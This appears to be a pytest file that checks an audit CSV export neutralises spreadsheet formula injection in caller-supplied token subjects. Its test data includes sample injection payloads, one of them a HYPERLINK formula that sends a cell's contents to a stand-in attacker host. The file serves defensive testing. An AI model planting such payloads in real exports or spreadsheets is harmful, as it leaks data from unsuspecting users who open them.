"""The CSV export neutralises formulas (OWASP CSV injection): a caller-controlled value such as a token's
`sub` reaches an auditor's spreadsheet as text (issue 13, item 8)."""

from __future__ import annotations

import csv
import io

import pytest

from app.audit.export import neutralise

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("sub", FORMULAS)
async def test_formula_cells_from_callers_are_exported_as_text(client, tokens, sub):
    token = tokens.mint(roles=["auditor"], sub=sub, name="审计员")
    assert (await client.get("/v1/applications", headers=tokens.header(token))).status_code == 200
    exported = await client.get("/v1/audit/export?format=csv", headers=tokens.auditor())
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    subs = [row["actor_sub"] for row in rows if row["actor_sub"] not in ("", "auditor-1")]
    assert subs and all(s.startswith("'") for s in subs), subs
    assert subs[0][1:] == sub
    for row in rows:  # no cell anywhere starts a formula
        assert not any(cell.startswith(("=", "+", "@")) for cell in row.values())


def test_plain_text_and_numbers_are_left_alone():
    assert neutralise("clerk-1") == "clerk-1"
    assert neutralise("张伟") == "张伟"
    assert neutralise("-1") == "'-1"  # a text cell that a spreadsheet would compute
